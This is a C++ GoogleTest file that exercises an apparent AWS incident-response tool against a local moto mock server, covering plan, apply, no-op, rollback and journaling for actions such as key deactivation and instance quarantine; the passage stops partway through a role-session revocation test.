// cw::respond end to end: every action against a real moto server (started by the suite, see
// tests/common/moto_server.h) with a SQLite store in a temporary directory. For each action: the plan changes
// nothing, apply changes what the plan said (checked with boto3, a separate client), a second
// apply is a recorded no-op that calls nothing, rollback restores the prior state, and the store
// rows and the incident journal say who did what with which AWS request ids.
#include <gtest/gtest.h>
#include <stdlib.h>

#include <algorithm>
#include <filesystem>
#include <memory>
#include <nlohmann/json.hpp>
#include <thread>

#include "aws/aws_client.h"
#include "aws/curl_transport.h"
#include "aws/services.h"
#include "aws/services_prepare.h"
#include "aws/sigv4_signer.h"
#include "core/clock.h"
#include "core/time.h"
#include "../common/moto_server.h"
#include "respond/decisions.h"
#include "respond/responder.h"
#include "store/incident_store.h"

namespace cloudward::respond {
namespace {

using nlohmann::json;

class RespondMotoTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    moto_ = new testing::MotoServer();
    skip_reason_ = moto_->Start();
  }
  static void TearDownTestSuite() {
    delete moto_;
    moto_ = nullptr;
  }

  void SetUp() override {
    if (!skip_reason_.empty()) GTEST_SKIP() << skip_reason_;
    char dir_template[] = "/tmp/cw_respond_test_XXXXXX";
    ASSERT_NE(mkdtemp(dir_template), nullptr);
    dir_ = dir_template;
    auto store = store::OpenStore("sqlite://" + dir_ + "/cw.db");
    ASSERT_TRUE(store) << store.error().message;
    store_ = std::move(*store);
    store::Incident incident{.id = kIncident, .title = "compromised workload"};
    ASSERT_TRUE(store_->CreateIncident(incident));

    recorder_ = std::make_shared<CallRecorder>(std::make_shared<aws::CurlTransport>());
    aws::ClientConfig config;
    config.region = "us-east-1";
    config.env = aws::MapEnv({{"AWS_ENDPOINT_URL", moto_->endpoint()}});
    config.credentials = std::make_shared<aws::StaticCredentialProvider>(
        aws::Credentials{"testing", "testing", "testing", std::nullopt, "test"});
    config.transport = recorder_;
    config.retry.base_delay_ms = 10;
    aws_ = std::make_unique<aws::AwsClient>(std::move(config));
    responder_ = std::make_unique<Responder>(*aws_, recorder_.get(), *store_, clock_, "analyst");
  }

  void TearDown() override {
    responder_.reset();
    store_.reset();
    if (!dir_.empty()) std::filesystem::remove_all(dir_);
  }

  // The operations sent to AWS since `mark` (query Action names, "METHOD /path?query" for S3).
  std::vector<std::string> OperationsSince(size_t mark) const {
    std::vector<std::string> out;
    for (const auto& c : recorder_->Since(mark)) out.push_back(c.operation);
    return out;
  }
  static bool Contains(const std::vector<std::string>& v, const std::string& s) {
    return std::find(v.begin(), v.end(), s) != v.end();
  }

  std::vector<store::ResponseAction> Actions() {
    auto actions = store_->ListActions(kIncident);
    EXPECT_TRUE(actions);
    return actions ? *actions : std::vector<store::ResponseAction>{};
  }

  // data of the journal's "action" entries, in order, with the text added as "_text".
  std::vector<json> ActionJournal() {
    std::vector<json> out;
    auto events = store_->Events(kIncident);
    EXPECT_TRUE(events);
    if (!events) return out;
    for (const auto& e : *events) {
      if (e.kind != "action") continue;
      json data = json::parse(e.data);
      data["_text"] = e.text;
      data["_author"] = e.author;
      data["_time_ms"] = e.time_ms;
      out.push_back(std::move(data));
    }
    return out;
  }

  static constexpr const char* kIncident = "INC-00000000a1";
  static inline testing::MotoServer* moto_ = nullptr;
  static inline std::string skip_reason_;
  std::string dir_;
  SystemClock clock_;
  std::unique_ptr<store::IncidentStore> store_;
  std::shared_ptr<CallRecorder> recorder_;
  std::unique_ptr<aws::AwsClient> aws_;
  std::unique_ptr<Responder> responder_;
};

// ------------------------------------------------------------------------ deactivate-access-key
TEST_F(RespondMotoTest, DeactivateAccessKey) {
  ASSERT_TRUE(aws_->Query("iam", "CreateUser", {{"UserName", "mallory"}}));
  auto created = aws_->Query("iam", "CreateAccessKey", {{"UserName", "mallory"}});
  ASSERT_TRUE(created) << created.error().Describe();
  const std::string key = created->Result().child("AccessKey").child("AccessKeyId").text().as_string();
  ASSERT_TRUE(aws_->Query("iam", "CreateAccessKey", {{"UserName", "mallory"}}));  // a second, untouched key
  auto status = [&] {
    return moto_->Boto3("for k in boto3.client('iam').list_access_keys(UserName='mallory')['AccessKeyMetadata']:\n"
                        "  print(k['Status']) if k['AccessKeyId'] == '" + key + "' else None");
  };
  const ActionRequest request{.target = key, .incident_id = kIncident};

  // Plan: one UpdateAccessKey, the user found from the key; nothing changes, nothing is stored.
  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("deactivate-access-key", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_FALSE(Contains(OperationsSince(mark), "UpdateAccessKey"));
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].operation, "iam:UpdateAccessKey");
  EXPECT_EQ(plan->calls[0].parameters, (json{{"UserName", "mallory"}, {"AccessKeyId", key}, {"Status", "Inactive"}}));
  EXPECT_EQ(plan->prior_state["status"], "Active");
  EXPECT_EQ(plan->prior_state["user_name"], "mallory");
  EXPECT_EQ(plan->notes.size(), 2u);  // live sessions, and the other active key
  EXPECT_EQ(status(), "Active");
  EXPECT_TRUE(Actions().empty());
  EXPECT_TRUE(ActionJournal().empty());

  // Apply: the key is Inactive, the row has the prior state and request ids.
  auto applied = responder_->Apply("deactivate-access-key", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_FALSE(applied->no_op);
  EXPECT_EQ(status(), "Inactive");
  auto row = store_->GetAction(applied->action.id);
  ASSERT_TRUE(row) << row.error().message;
  EXPECT_EQ(row->status, "applied");
  EXPECT_EQ(row->kind, "deactivate-access-key");
  EXPECT_EQ(row->target, key);
  EXPECT_EQ(json::parse(row->prior_state)["status"], "Active");
  ASSERT_EQ(row->request_ids.size(), 1u);
  EXPECT_FALSE(row->request_ids[0].empty());
  EXPECT_NE(row->applied_ms, kUnknownTime);

  // Apply again: a recorded no-op that makes no write.
  mark = recorder_->Mark();
  auto again = responder_->Apply("deactivate-access-key", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  EXPECT_FALSE(Contains(OperationsSince(mark), "UpdateAccessKey"));
  EXPECT_EQ(again->action.status, "applied");
  EXPECT_EQ(json::parse(again->action.plan)["no_op"], true);
  EXPECT_EQ(status(), "Inactive");

  // Rollback plan (dry run) changes nothing; rollback re-activates the key.
  auto rollback_plan = responder_->PlanRollback(applied->action.id);
  ASSERT_TRUE(rollback_plan) << rollback_plan.error().message;
  ASSERT_EQ(rollback_plan->calls.size(), 1u);
  EXPECT_EQ(rollback_plan->calls[0].parameters["Status"], "Active");
  EXPECT_EQ(status(), "Inactive");
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  EXPECT_EQ(status(), "Active");
  row = store_->GetAction(applied->action.id);
  ASSERT_TRUE(row);
  EXPECT_EQ(row->status, "rolled_back");
  EXPECT_EQ(row->request_ids.size(), 2u);
  EXPECT_NE(row->rolled_back_ms, kUnknownTime);

  // A second rollback is refused; rolling back the no-op changes nothing.
  auto twice = responder_->Rollback(applied->action.id);
  ASSERT_FALSE(twice);
  EXPECT_EQ(twice.error().code, ErrorCode::kConflict);
  auto noop_rollback = responder_->Rollback(again->action.id);
  ASSERT_TRUE(noop_rollback) << noop_rollback.error().message;
  EXPECT_FALSE(noop_rollback->rolled_back);
  EXPECT_FALSE(noop_rollback->plan.reversible);
  EXPECT_EQ(status(), "Active");

  // Journal: apply, no-op, rollback, nothing-to-undo; who, principal and request ids.
  auto journal = ActionJournal();
  ASSERT_EQ(journal.size(), 4u);
  EXPECT_EQ(journal[0]["phase"], "apply");
  EXPECT_EQ(journal[0]["outcome"], "applied");
  EXPECT_EQ(journal[0]["action_id"], applied->action.id);
  EXPECT_EQ(journal[0]["operator"], "analyst");
  EXPECT_EQ(journal[0]["_author"], "analyst");
  EXPECT_TRUE(journal[0]["principal"].get<std::string>().starts_with("arn:aws:"));
  EXPECT_EQ(journal[0]["request_ids"], json::array({row->request_ids[0]}));
  EXPECT_EQ(journal[0]["calls"][0]["operation"], "iam:UpdateAccessKey");
  EXPECT_NE(journal[0]["_text"].get<std::string>().find("request id " + row->request_ids[0]), std::string::npos);
  EXPECT_EQ(journal[1]["outcome"], "no_op");
  EXPECT_EQ(journal[2]["phase"], "rollback");
  EXPECT_EQ(journal[2]["outcome"], "rolled_back");
  EXPECT_EQ(journal[2]["request_ids"], json::array({row->request_ids[1]}));
  EXPECT_EQ(journal[3]["outcome"], "nothing_to_undo");
}

TEST_F(RespondMotoTest, DeactivateAccessKeyRollbackRefusedWhenKeyDeleted) {
  ASSERT_TRUE(aws_->Query("iam", "CreateUser", {{"UserName", "trudy"}}));
  auto created = aws_->Query("iam", "CreateAccessKey", {{"UserName", "trudy"}});
  ASSERT_TRUE(created);
  const std::string key = created->Result().child("AccessKey").child("AccessKeyId").text().as_string();
  auto applied = responder_->Apply("deactivate-access-key",
                                   {.target = key, .incident_id = kIncident, .options = {{"user", "trudy"}}});
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok());
  ASSERT_TRUE(aws_->Query("iam", "DeleteAccessKey", {{"UserName", "trudy"}, {"AccessKeyId", key}}));

  auto refused = responder_->Rollback(applied->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict);
  EXPECT_NE(refused.error().message.find("no longer exists"), std::string::npos);
  EXPECT_EQ(store_->GetAction(applied->action.id)->status, "applied");
  auto journal = ActionJournal();
  ASSERT_EQ(journal.size(), 2u);
  EXPECT_EQ(journal[1]["outcome"], "refused");
}

TEST_F(RespondMotoTest, DeactivateAccessKeyBadInput) {
  auto malformed = responder_->PlanAction("deactivate-access-key", {.target = "not-a-key", .incident_id = kIncident});
  ASSERT_FALSE(malformed);
  EXPECT_EQ(malformed.error().code, ErrorCode::kInvalidArgument);
  auto unknown_key = responder_->PlanAction("deactivate-access-key",
                                            {.target = "AKIA0000000000000000", .incident_id = kIncident});
  ASSERT_FALSE(unknown_key);
  EXPECT_NE(unknown_key.error().message.find("AKIA0000000000000000"), std::string::npos);
  auto unknown_kind = responder_->PlanAction("reboot-the-cloud", {.target = "x"});
  ASSERT_FALSE(unknown_kind);
  EXPECT_EQ(unknown_kind.error().code, ErrorCode::kInvalidArgument);
  auto unknown_incident = responder_->Apply("deactivate-access-key",
                                            {.target = "AKIA0000000000000000", .incident_id = "INC-ffffffffff"});
  ASSERT_FALSE(unknown_incident);
  EXPECT_EQ(unknown_incident.error().code, ErrorCode::kNotFound);
  auto unknown_action = responder_->Rollback("ACT-0000000000");
  ASSERT_FALSE(unknown_action);
  EXPECT_EQ(unknown_action.error().code, ErrorCode::kNotFound);
  EXPECT_TRUE(Actions().empty());
}

// ----------------------------------------------------------------------------- isolate-instance
// Starts an instance; returns its id.
std::string RunInstance(aws::AwsClient& aws) {
  auto images = aws.Query("ec2", "DescribeImages", {{"Owner.1", "amazon"}});
  if (!images) return "";
  std::string ami = images->Root().child("imagesSet").child("item").child("imageId").text().as_string();
  auto run = aws.Query("ec2", "RunInstances", {{"ImageId", ami}, {"MinCount", "1"}, {"MaxCount", "1"}, {"InstanceType", "t3.micro"}});
  if (!run) return "";
  return run->Root().child("instancesSet").child("item").child("instanceId").text().as_string();
}

TEST_F(RespondMotoTest, IsolateInstance) {
  const std::string instance = RunInstance(*aws_);
  ASSERT_FALSE(instance.empty());
  auto described = aws::ec2::DescribeInstances(*aws_, {instance});
  ASSERT_TRUE(described && described->size() == 1);
  const std::string vpc = (*described)[0].vpc_id;
  ASSERT_EQ((*described)[0].network_interface_ids.size(), 1u);
  const std::string eni = (*described)[0].network_interface_ids[0];
  auto web = aws::ec2::CreateSecurityGroup(*aws_, vpc, "web-" + instance, "web");
  ASSERT_TRUE(web);
  auto before = aws::ec2::DescribeNetworkInterfaces(*aws_, {eni});
  ASSERT_TRUE(before && before->size() == 1);
  std::vector<std::string> prior_groups = (*before)[0].group_ids;
  prior_groups.push_back(*web);
  ASSERT_TRUE(aws::ec2::ModifyNetworkInterfaceSecurityGroups(*aws_, eni, prior_groups));
  // A separate read of the interface's groups, sorted.
  auto groups = [&] {
    return moto_->Boto3("print(','.join(sorted(g['GroupId'] for g in boto3.client('ec2').describe_network_interfaces("
                        "NetworkInterfaceIds=['" + eni + "'])['NetworkInterfaces'][0]['Groups'])))");
  };
  std::vector<std::string> sorted_prior = prior_groups;
  std::sort(sorted_prior.begin(), sorted_prior.end());
  const std::string prior_text = sorted_prior[0] + "," + sorted_prior[1];
  ASSERT_EQ(groups(), prior_text);
  const ActionRequest request{.target = instance, .incident_id = kIncident};

  // Plan: create the quarantine group (no rules, tagged), then move the interface; nothing changes.
  auto plan = responder_->PlanAction("isolate-instance", request);
  ASSERT_TRUE(plan) << plan.error().message;
  std::vector<std::string> ops;
  for (const auto& c : plan->calls) ops.push_back(c.operation);
  EXPECT_EQ(ops, (std::vector<std::string>{"ec2:CreateSecurityGroup", "ec2:RevokeSecurityGroupEgress", "ec2:CreateTags",
                                           "ec2:ModifyNetworkInterfaceAttribute"}));
  EXPECT_EQ(plan->prior_state["network_interfaces"][0]["id"], eni);
  EXPECT_EQ(plan->prior_state["network_interfaces"][0]["groups"], json(prior_groups));
  EXPECT_EQ(groups(), prior_text);
  EXPECT_EQ(moto_->Boto3("print(len(boto3.client('ec2').describe_security_groups(Filters=[{'Name':'group-name','Values':['cloudward-quarantine']}])['SecurityGroups']))"), "0");

  // Apply: the interface is only in a quarantine group without rules.
  auto applied = responder_->Apply("isolate-instance", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  const std::string quarantine = applied->execution.outputs["quarantine_group"];
  ASSERT_TRUE(quarantine.starts_with("sg-"));
  EXPECT_EQ(groups(), quarantine);
  EXPECT_EQ(moto_->Boto3("g = boto3.client('ec2').describe_security_groups(GroupIds=['" + quarantine + "'])['SecurityGroups'][0]\n"
                         "print(g['GroupName'], g['VpcId'], len(g['IpPermissions']), len(g['IpPermissionsEgress']), "
                         "{t['Key']: t['Value'] for t in g.get('Tags', [])}.get('cloudward:purpose'))"),
            "cloudward-quarantine " + vpc + " 0 0 quarantine");
  auto row = store_->GetAction(applied->action.id);
  ASSERT_TRUE(row);
  EXPECT_EQ(row->status, "applied");
  EXPECT_EQ(row->request_ids.size(), 4u);
  EXPECT_EQ(json::parse(row->prior_state)["network_interfaces"][0]["groups"], json(prior_groups));

  // Apply again: no-op, no write.
  size_t mark = recorder_->Mark();
  auto again = responder_->Apply("isolate-instance", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  auto sent = OperationsSince(mark);
  EXPECT_FALSE(Contains(sent, "ModifyNetworkInterfaceAttribute"));
  EXPECT_FALSE(Contains(sent, "CreateSecurityGroup"));
  EXPECT_EQ(groups(), quarantine);

  // A second instance in the same VPC reuses the quarantine group (found by name).
  const std::string other = RunInstance(*aws_);
  ASSERT_FALSE(other.empty());
  auto other_plan = responder_->PlanAction("isolate-instance", {.target = other, .incident_id = kIncident});
  ASSERT_TRUE(other_plan) << other_plan.error().message;
  ASSERT_EQ(other_plan->calls.size(), 1u);
  EXPECT_EQ(other_plan->calls[0].parameters["Groups"], json::array({quarantine}));

  // Rollback: the prior groups are back; the quarantine group is kept.
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  EXPECT_EQ(groups(), prior_text);
  EXPECT_EQ(store_->GetAction(applied->action.id)->status, "rolled_back");
  auto journal = ActionJournal();
  ASSERT_EQ(journal.size(), 3u);
  EXPECT_EQ(journal[0]["outcome"], "applied");
  EXPECT_EQ(journal[0]["request_ids"].size(), 4u);
  EXPECT_EQ(journal[1]["outcome"], "no_op");
  EXPECT_EQ(journal[2]["outcome"], "rolled_back");
  EXPECT_EQ(journal[2]["calls"][0]["parameters"]["Groups"], json(prior_groups));
}

TEST_F(RespondMotoTest, IsolateInstanceRollbackRefusedWhenGroupsChanged) {
  const std::string instance = RunInstance(*aws_);
  ASSERT_FALSE(instance.empty());
  auto applied = responder_->Apply("isolate-instance", {.target = instance, .incident_id = kIncident});
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok());
  auto described = aws::ec2::DescribeInstances(*aws_, {instance});
  ASSERT_TRUE(described);
  const std::string eni = (*described)[0].network_interface_ids[0];
  auto admin = aws::ec2::CreateSecurityGroup(*aws_, (*described)[0].vpc_id, "admin-" + instance, "someone else");
  ASSERT_TRUE(admin);
  ASSERT_TRUE(aws::ec2::ModifyNetworkInterfaceSecurityGroups(*aws_, eni, {*admin}));

  auto refused = responder_->Rollback(applied->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict);
  EXPECT_NE(refused.error().message.find(eni + " now has groups " + *admin), std::string::npos) << refused.error().message;
  auto still = aws::ec2::DescribeNetworkInterfaces(*aws_, {eni});
  ASSERT_TRUE(still);
  EXPECT_EQ((*still)[0].group_ids, std::vector<std::string>{*admin});

  auto missing = responder_->PlanAction("isolate-instance", {.target = "i-0123456789abcdef0"});
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code, ErrorCode::kNotFound);
  auto malformed = responder_->PlanAction("isolate-instance", {.target = "i-xyz"});
  ASSERT_FALSE(malformed);
  EXPECT_EQ(malformed.error().code, ErrorCode::kInvalidArgument);
}

// ----------------------------------------------------------------------- block-s3-public-access
TEST_F(RespondMotoTest, BlockS3PublicAccessWithoutPriorConfiguration) {
  const std::string bucket = "cw-respond-open-bucket";
  ASSERT_TRUE(aws::s3::CreateBucket(*aws_, bucket));
  auto config = [&] {
    return moto_->Boto3("try:\n  c = boto3.client('s3').get_public_access_block(Bucket='" + bucket + "')['PublicAccessBlockConfiguration']\n"
                        "  print(c['BlockPublicAcls'], c['IgnorePublicAcls'], c['BlockPublicPolicy'], c['RestrictPublicBuckets'])\n"
                        "except Exception as e:\n  print(e.response['Error']['Code'])");
  };
  ASSERT_EQ(config(), "NoSuchPublicAccessBlockConfiguration");
  const ActionRequest request{.target = bucket, .incident_id = kIncident};

  auto plan = responder_->PlanAction("block-s3-public-access", request);
  ASSERT_TRUE(plan) << plan.error().message;
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].operation, "s3:PutPublicAccessBlock");
  EXPECT_EQ(plan->prior_state["public_access_block"], "none");
  EXPECT_EQ(config(), "NoSuchPublicAccessBlockConfiguration");

  auto applied = responder_->Apply("block-s3-public-access", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(config(), "True True True True");
  EXPECT_EQ(json::parse(store_->GetAction(applied->action.id)->prior_state)["public_access_block"], "none");

  size_t mark = recorder_->Mark();
  auto again = responder_->Apply("block-s3-public-access", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  for (const auto& op : OperationsSince(mark)) EXPECT_FALSE(op.starts_with("PUT ")) << op;

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  ASSERT_EQ(rolled->plan.calls.size(), 1u);
  EXPECT_EQ(rolled->plan.calls[0].operation, "s3:DeletePublicAccessBlock");
  EXPECT_EQ(config(), "NoSuchPublicAccessBlockConfiguration");
  auto journal = ActionJournal();
  ASSERT_EQ(journal.size(), 3u);
  EXPECT_EQ(journal[0]["outcome"], "applied");
  EXPECT_EQ(journal[0]["request_ids"].size(), 1u);
  EXPECT_EQ(journal[2]["outcome"], "rolled_back");
}

// ------------------------------------------------------------------ block-account-public-access
// State is read back with a plain HTTP GET from Python (moto routes on the credential scope and
// checks no signature): boto3 puts the account id in the host name of a custom S3 Control
// endpoint, which does not resolve for a local moto.
TEST_F(RespondMotoTest, BlockAccountPublicAccessPlanApplyNoOpAndRollback) {
  auto config = [&] {
    return moto_->Boto3(
        "import urllib.request, urllib.error, re, os\n"
        "req = urllib.request.Request(os.environ['AWS_ENDPOINT_URL'] + '/v20180820/configuration/publicAccessBlock',"
        " headers={'x-amz-account-id': '123456789012', 'Authorization': 'AWS4-HMAC-SHA256 '"
        "'Credential=testing/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=0'})\n"
        "try:\n  body = urllib.request.urlopen(req).read().decode()\n"
        "  print(' '.join(re.findall(r'<(?:BlockPublicAcls|IgnorePublicAcls|BlockPublicPolicy|RestrictPublicBuckets)>(\\w+)<', body)))\n"
        "except urllib.error.HTTPError as e:\n  print('missing' if b'NoSuchPublicAccessBlock' in e.read() else e.code)");
  };
  ASSERT_EQ(config(), "missing");
  const ActionRequest request{.target = "current", .incident_id = kIncident};
  auto plan = responder_->PlanAction("block-account-public-access", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_EQ(plan->target, "123456789012") << "current resolves to the credentials' account";
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].operation, "s3:PutAccountPublicAccessBlock");
  EXPECT_EQ(plan->prior_state["public_access_block"], "none");
  EXPECT_EQ(config(), "missing") << "planning changes nothing";

  auto applied = responder_->Apply("block-account-public-access", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(config(), "true true true true");

  size_t mark = recorder_->Mark();
  auto again = responder_->Apply("block-account-public-access", {.target = "123456789012", .incident_id = kIncident});
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  for (const auto& op : OperationsSince(mark)) EXPECT_FALSE(op.starts_with("PUT ")) << op;

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  ASSERT_EQ(rolled->plan.calls.size(), 1u);
  EXPECT_EQ(rolled->plan.calls[0].operation, "s3:DeleteAccountPublicAccessBlock");
  EXPECT_EQ(config(), "missing");

  // A prior partial setting comes back as it was.
  ASSERT_TRUE(aws::s3control::PutPublicAccessBlock(*aws_, "123456789012", {true, false, false, true}));
  auto partial = responder_->Apply("block-account-public-access", request);
  ASSERT_TRUE(partial && partial->execution.ok());
  EXPECT_EQ(config(), "true true true true");
  ASSERT_TRUE(responder_->Rollback(partial->action.id));
  EXPECT_EQ(config(), "true false false true");

  auto malformed = responder_->PlanAction("block-account-public-access", {.target = "12345"});
  ASSERT_FALSE(malformed);
  EXPECT_EQ(malformed.error().code, ErrorCode::kInvalidArgument);
}

TEST_F(RespondMotoTest, BlockS3PublicAccessRestoresPriorConfigurationAndRefusesChanges) {
  const std::string bucket = "cw-respond-partial-bucket";
  ASSERT_TRUE(aws::s3::CreateBucket(*aws_, bucket));
  ASSERT_TRUE(aws::s3::PutPublicAccessBlock(*aws_, bucket, {true, false, true, false}));
  auto applied = responder_->Apply("block-s3-public-access", {.target = bucket, .incident_id = kIncident});
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok());
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  auto restored = aws::s3::GetPublicAccessBlock(*aws_, bucket);
  ASSERT_TRUE(restored);
  EXPECT_TRUE(restored->block_public_acls);
  EXPECT_FALSE(restored->ignore_public_acls);
  EXPECT_TRUE(restored->block_public_policy);
  EXPECT_FALSE(restored->restrict_public_buckets);

  // Applied again, then someone loosens the block: rollback refuses to clobber it.
  auto second = responder_->Apply("block-s3-public-access", {.target = bucket, .incident_id = kIncident});
  ASSERT_TRUE(second && second->execution.ok());
  ASSERT_TRUE(aws::s3::PutPublicAccessBlock(*aws_, bucket, {false, false, false, false}));
  auto refused = responder_->Rollback(second->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict);
  auto unchanged = aws::s3::GetPublicAccessBlock(*aws_, bucket);
  ASSERT_TRUE(unchanged);
  EXPECT_FALSE(unchanged->block_public_acls);

  auto missing = responder_->PlanAction("block-s3-public-access", {.target = "cw-no-such-bucket"});
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code, ErrorCode::kNotFound);
  auto malformed = responder_->PlanAction("block-s3-public-access", {.target = "Bad_Bucket"});
  ASSERT_FALSE(malformed);
  EXPECT_EQ(malformed.error().code, ErrorCode::kInvalidArgument);
}

// -------------------------------------------------------------------- snapshot-instance-volumes
TEST_F(RespondMotoTest, SnapshotInstanceVolumes) {
  const std::string instance = RunInstance(*aws_);
  ASSERT_FALSE(instance.empty());
  auto snapshots = [&] {
    return moto_->Boto3("s = boto3.client('ec2').describe_snapshots(OwnerIds=['self'], Filters=[{'Name':'tag:cloudward:incident',"
                        "'Values':['" + std::string(kIncident) + "']}, {'Name':'tag:cloudward:instance','Values':['" + instance + "']}])['Snapshots']\n"
                        "print(len(s), ' '.join(x['VolumeId'] for x in s))");
  };
  ASSERT_EQ(snapshots(), "0 ");
  const ActionRequest request{.target = instance, .incident_id = kIncident};

  auto plan = responder_->PlanAction("snapshot-instance-volumes", request);
  ASSERT_TRUE(plan) << plan.error().message;
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].operation, "ec2:CreateSnapshot");
  const std::string volume = plan->calls[0].parameters["VolumeId"];
  EXPECT_EQ(plan->calls[0].parameters["Tags"]["cloudward:incident"], kIncident);
  EXPECT_EQ(snapshots(), "0 ");

  auto applied = responder_->Apply("snapshot-instance-volumes", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(snapshots(), "1 " + volume);
  const std::string snapshot = applied->execution.outputs["snapshot:" + volume];
  EXPECT_TRUE(snapshot.starts_with("snap-"));

  size_t mark = recorder_->Mark();
  auto again = responder_->Apply("snapshot-instance-volumes", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  EXPECT_FALSE(Contains(OperationsSince(mark), "CreateSnapshot"));
  EXPECT_EQ(again->plan.prior_state["existing_snapshots"][volume], snapshot);
  EXPECT_EQ(snapshots(), "1 " + volume);

  // Rollback: nothing to undo, said so; the snapshot stays and so does the status.
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_FALSE(rolled->rolled_back);
  EXPECT_FALSE(rolled->plan.reversible);
  EXPECT_NE(rolled->plan.summary.find("nothing to undo"), std::string::npos);
  EXPECT_NE(rolled->plan.summary.find(snapshot), std::string::npos);
  EXPECT_EQ(snapshots(), "1 " + volume);
  EXPECT_EQ(store_->GetAction(applied->action.id)->status, "applied");
  auto journal = ActionJournal();
  ASSERT_EQ(journal.size(), 3u);
  EXPECT_EQ(journal[0]["calls"][0]["result"], snapshot);
  EXPECT_EQ(journal[2]["outcome"], "nothing_to_undo");

  auto no_incident = responder_->PlanAction("snapshot-instance-volumes", {.target = instance});
  ASSERT_FALSE(no_incident);
  EXPECT_EQ(no_incident.error().code, ErrorCode::kInvalidArgument);
}

// ------------------------------------------------------------------------- revoke-role-sessions
TEST_F(RespondMotoTest, RevokeRoleSessionsNamesInstancesRunningAsTheRole) {
  const std::string trust = R"({"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]})";
  ASSERT_TRUE(aws_->Query("iam", "CreateRole", {{"RoleName", "web-app"}, {"AssumeRolePolicyDocument", trust}}));
  ASSERT_TRUE(aws_->Query("iam", "CreateInstanceProfile", {{"InstanceProfileName", "web-app-profile"}}));
  ASSERT_TRUE(aws_->Query("iam", "AddRoleToInstanceProfile",
                          {{"InstanceProfileName", "web-app-profile"}, {"RoleName", "web-app"}}));
  std::string instance = moto_->Boto3(
      "r = boto3.client('ec2').run_instances(ImageId='ami-12c6146b', MinCount=1, MaxCount=1,"
      " IamInstanceProfile={'Name': 'web-app-profile'})\nprint(r['Instances'][0]['InstanceId'])");
  ASSERT_TRUE(instance.starts_with("i-")) << instance;
  auto policy = [&] {
    return moto_->Boto3("try:\n  print(boto3.client('iam').get_role_policy(RoleName='web-app', PolicyName="
                        "'cloudward-revoke-older-sessions')['PolicyDocument']['Statement'][0]['Condition'])\n"
                        "except Exception as e:\n  print(e.response['Error']['Code'])");
  };
  // An assumed-role session ARN names the role.
  const ActionRequest request{.target = "arn:aws:sts::123456789012:assumed-role/web-app/" + instance,
                              .incident_id = kIncident};

  auto plan = responder_->PlanAction("revoke-role-sessions", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_EQ(plan->target, "web-app");
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].operation, "iam:PutRolePolicy");
  EXPECT_TRUE(plan->prior_state["policy_document"].is_null());
  bool names_instance = std::any_of(plan->notes.begin(), plan->notes.end(),
                                    [&](const std::string& n) { return n.find(instance) != std::string::npos; });
  EXPECT_TRUE(names_instance) << plan->ToJson().dump(2);
  EXPECT_EQ(policy(), "NoSuchEntity");

  auto applied = responder_->Apply("revoke-role-sessions", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_NE(policy().find("aws:TokenIssueTime"), std::string::npos) << policy();

  // Planned again within minutes: nothing to do.
  auto again = responder_->Apply("revoke-role-sessions", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  ASSERT_EQ(rolled->plan.calls.size(), 1u);
